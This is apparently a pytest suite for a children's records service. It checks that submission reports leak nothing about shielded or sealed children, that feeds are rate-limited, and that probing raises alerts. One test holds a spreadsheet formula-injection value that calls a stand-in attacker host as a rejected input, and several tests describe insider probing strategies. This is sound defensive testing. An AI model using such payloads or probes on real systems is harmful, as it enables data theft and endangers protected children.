"""A data source learns nothing from its submission reports about records it did not send.

A leaked key, or one insider at a source, could otherwise send one-row feeds about a shielded or
sealed child with guessed addresses and read the answer off the report (linked, review band, held
privately). Over real HTTP on SQLite and PostgreSQL: the report of every guess is the same, it says
accepted or rejected (with reject reasons for the source's own rows) and nothing else, submissions
per key are limited, and probing patterns raise an alert for the national team.
"""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from typing import Any

import httpx
import pytest

from contactpoint.app.feeds.sources import add_source_account
from contactpoint.app.runtime import Runtime
from contactpoint.domain.records import ChildRecord
from contactpoint.domain.vocabulary import RecordStatus
from contactpoint.settings import Settings
from tests.factories import ChildFactory
from tests.linkage_support import CHILD_BENEFIT_HEADER, child_benefit_row
from tests.websupport import HOME_LA, live_server, store_children

SUBMIT = "/api/v1/feeds/child_benefit/submissions"
CSV = {"Content-Type": "text/csv"}
ADDRESS = ("ADDRESS_LINE_1", "ADDRESS_LINE_2", "ADDRESS_LINE_3", "TOWN", "POSTCODE")


def _feed(*rows: dict[str, str]) -> bytes:
    out = io.StringIO()
    writer = csv.DictWriter(out, CHILD_BENEFIT_HEADER, lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue().encode()


def _key(runtime: Runtime, name: str = "child-benefit-feed") -> dict[str, str]:
    return {"Authorization": f"Bearer {add_source_account(runtime, name, 'child_benefit').key}"} | CSV


def _guesses(child: ChildRecord, elsewhere: ChildRecord, key: str) -> list[dict[str, str]]:
    """The same child with the right address, a wrong one and none."""
    right = child_benefit_row(key, child)
    wrong = right | {c: child_benefit_row("x", elsewhere)[c] for c in ADDRESS}
    missing = right | dict.fromkeys(ADDRESS, "")
    return [right, wrong, missing]


def _without_run(report: dict[str, Any]) -> dict[str, Any]:
    return {k: v for k, v in report.items() if k != "reference"}


@pytest.mark.parametrize("status", [RecordStatus.SHIELDED, RecordStatus.SEALED])
def test_reports_about_a_protected_child_are_the_same_whatever_the_address_guessed(
    runtime: Runtime, factory: ChildFactory, status: RecordStatus
) -> None:
    child, elsewhere = store_children(
        runtime, [factory.child(status=status, la_code=HOME_LA), factory.child(la_code=HOME_LA)]
    )
    headers = _key(runtime)
    reports = []
    with live_server(runtime) as base, httpx.Client(base_url=base, timeout=120) as client:
        for n, row in enumerate(_guesses(child, elsewhere, "CB-PROBE")):
            response = client.post(SUBMIT, headers=headers, content=_feed(row | {"RECORD_ID": f"CB{n}"}))
            assert response.status_code == 200, response.text
            reports.append(response.json())

    first = _without_run(reports[0])
    assert all(_without_run(r) == first for r in reports[1:])
    assert first["accepted"] == 1
    assert first["rejected"] == 0
    assert not {"outcomes", "reasons", "private_holds"} & set(first)


def test_a_report_gives_the_reject_reasons_of_the_sources_own_rows(
    runtime: Runtime, factory: ChildFactory
) -> None:
    child = factory.child(la_code=HOME_LA)
    good = child_benefit_row("CB1", child)
    bad = child_benefit_row("CB2", child) | {"CHILD_DOB": "31/02/2020"}
    with live_server(runtime) as base, httpx.Client(base_url=base, timeout=120) as client:
        response = client.post(SUBMIT, headers=_key(runtime), content=_feed(good, bad))

    report = response.json()
    assert (report["read"], report["accepted"], report["rejected"]) == (2, 1, 1)
    assert [(r["line"], r["row_key"]) for r in report["rejects"]] == [(3, "CB2")]


def _limited(runtime: Runtime, **figures: int) -> None:
    runtime.settings = Settings.model_validate(runtime.settings.model_dump() | figures)


def test_submissions_per_key_are_limited_in_a_window_set_in_settings(
    runtime: Runtime, factory: ChildFactory
) -> None:
    _limited(runtime, feed_submissions_per_window=3)
    row = child_benefit_row("CB1", factory.child(la_code=HOME_LA))
    headers, other = _key(runtime), _key(runtime, "child-benefit-other")
    with live_server(runtime) as base, httpx.Client(base_url=base, timeout=120) as client:
        codes = [client.post(SUBMIT, headers=headers, content=_feed(row)).status_code for _ in range(4)]
        refused = client.post(SUBMIT, headers=headers, content=_feed(row))
        others = client.post(SUBMIT, headers=other, content=_feed(row)).status_code

    assert codes == [200, 200, 200, 429]
    assert refused.status_code == 429
    assert int(refused.headers["Retry-After"]) > 0
    assert others == 200  # the limit is per key


def _national_alerts(runtime: Runtime) -> list[str]:
    with runtime.unit_of_work() as uow:
        return [a.kind for a in uow.audit.alerts(None, runtime.clock.now().replace(year=2000), None, 100)]


def test_many_small_submissions_from_one_key_raise_a_national_alert(
    runtime: Runtime, factory: ChildFactory
) -> None:
    children = [factory.child(la_code=HOME_LA) for _ in range(6)]
    headers = _key(runtime)
    with live_server(runtime) as base, httpx.Client(base_url=base, timeout=120) as client:
        for n, child in enumerate(children[:4]):
            client.post(SUBMIT, headers=headers, content=_feed(child_benefit_row(f"CB{n}", child)))
        assert "feed_probing" not in _national_alerts(runtime)
        for n, child in enumerate(children[4:], start=4):
            client.post(SUBMIT, headers=headers, content=_feed(child_benefit_row(f"CB{n}", child)))

    assert "feed_probing" in _national_alerts(runtime)


def test_one_row_key_sent_again_and_again_with_other_content_raises_a_national_alert(
    runtime: Runtime, factory: ChildFactory
) -> None:
    child, *others = [factory.child(la_code=HOME_LA) for _ in range(4)]
    headers = _key(runtime)
    with live_server(runtime) as base, httpx.Client(base_url=base, timeout=120) as client:
        for other in others:
            moved = replace(child, whereabouts=other.whereabouts)
            client.post(SUBMIT, headers=headers, content=_feed(child_benefit_row("CB-SAME", moved)))

    assert "feed_probing" in _national_alerts(runtime)


def _partial_guess(key: str, child: ChildRecord, **changes: str) -> dict[str, str]:
    """A guess about a child lacking the given name: it can only add to a record that exists."""
    return child_benefit_row(key, child) | {"CHILD_FORENAMES": ""} | changes


@pytest.mark.parametrize("status", [RecordStatus.SHIELDED, RecordStatus.SEALED])
def test_a_partial_row_is_taken_whether_or_not_a_protected_child_matches_it(
    runtime: Runtime, factory: ChildFactory, status: RecordStatus
) -> None:
    child = store_children(runtime, [factory.child(status=status, la_code=HOME_LA)])[0]
    born = child.date_of_birth
    control = f"{born.day:02d}/{born.month:02d}/{born.year + 1:04d}"
    nonsense = {"CHILD_SURNAME": "Qzxvbn"}
    rows = [
        _partial_guess("CB-TRUE", child),  # the true surname and date of birth
        _partial_guess("CB-CONTROL", child, CHILD_DOB=control),  # nobody
        _partial_guess("CB-POSTCODE", child, **nonsense),  # nonsense surname at the child's postcode
        _partial_guess("CB-ELSEWHERE", child, **nonsense, POSTCODE="SW1A 1AA"),  # and somewhere else
    ]
    with live_server(runtime) as base, httpx.Client(base_url=base, timeout=120) as client:
        response = client.post(SUBMIT, headers=_key(runtime), content=_feed(*rows))

    assert response.status_code == 200, response.text
    report = response.json()
    assert (report["read"], report["accepted"], report["rejected"], report["rejects"]) == (4, 4, 0, [])
    with runtime.unit_of_work() as uow:
        assert [c.record.cp_id for c in uow.children.get_many(uow.children.ids_after("", 10)).values()] == [
            child.cp_id
        ]


def test_one_submission_sweeping_partial_guesses_raises_a_national_alert_whatever_its_size(
    runtime: Runtime, factory: ChildFactory
) -> None:
    child = store_children(runtime, [factory.child(status=RecordStatus.SHIELDED, la_code=HOME_LA)])[0]
    rows = [
        _partial_guess(f"CB{n:03d}", child, CHILD_SURNAME="Qzxvbn", POSTCODE=f"NE{n % 40 + 1} {n % 9 + 1}AB")
        for n in range(40)
    ]
    full = [child_benefit_row(f"CF{n:03d}", factory.child(la_code=HOME_LA)) for n in range(30)]
    few = [row | {"RECORD_ID": "H" + row["RECORD_ID"]} for row in rows[:3]]
    with live_server(runtime) as base, httpx.Client(base_url=base, timeout=300) as client:
        honest = client.post(SUBMIT, headers=_key(runtime, "cb-honest"), content=_feed(*full, *few))
        assert honest.status_code == 200, honest.text
        assert "feed_probing" not in _national_alerts(runtime)
        sweep = client.post(SUBMIT, headers=_key(runtime), content=_feed(*rows))

    assert sweep.status_code == 200, sweep.text
    assert sweep.json()["rejected"] == 0
    assert "feed_probing" in _national_alerts(runtime)


def test_a_row_key_of_free_text_or_a_formula_is_rejected_and_nothing_of_it_is_stored(
    runtime: Runtime, factory: ChildFactory
) -> None:
    child = factory.child(la_code=HOME_LA)
    formula = '=HYPERLINK("http://evil.example/?"&A1;"open")'
    prose = "Imogen Tyler lives at 24 Laurel Close NE24 8DH"
    rows = [child_benefit_row(formula, child), child_benefit_row(prose, child)]
    with live_server(runtime) as base, httpx.Client(base_url=base, timeout=120) as client:
        response = client.post(SUBMIT, headers=_key(runtime), content=_feed(*rows))

    assert response.status_code == 200, response.text
    report = response.json()
    assert (report["accepted"], report["rejected"]) == (0, 2)
    assert {(r["line"], r["field"], r["row_key"]) for r in report["rejects"]} == {
        (2, "RECORD_ID", None),
        (3, "RECORD_ID", None),
    }
    assert all("record identifier" in r["rule"] for r in report["rejects"])
    with runtime.engine.connect() as connection:
        kept = {
            value
            for table in ("feed_rows", "field_provenance", "review_items")
            for (value,) in connection.exec_driver_sql(f"SELECT row_key FROM {table}")  # noqa: S608
        }
    assert not {formula, prose} & kept
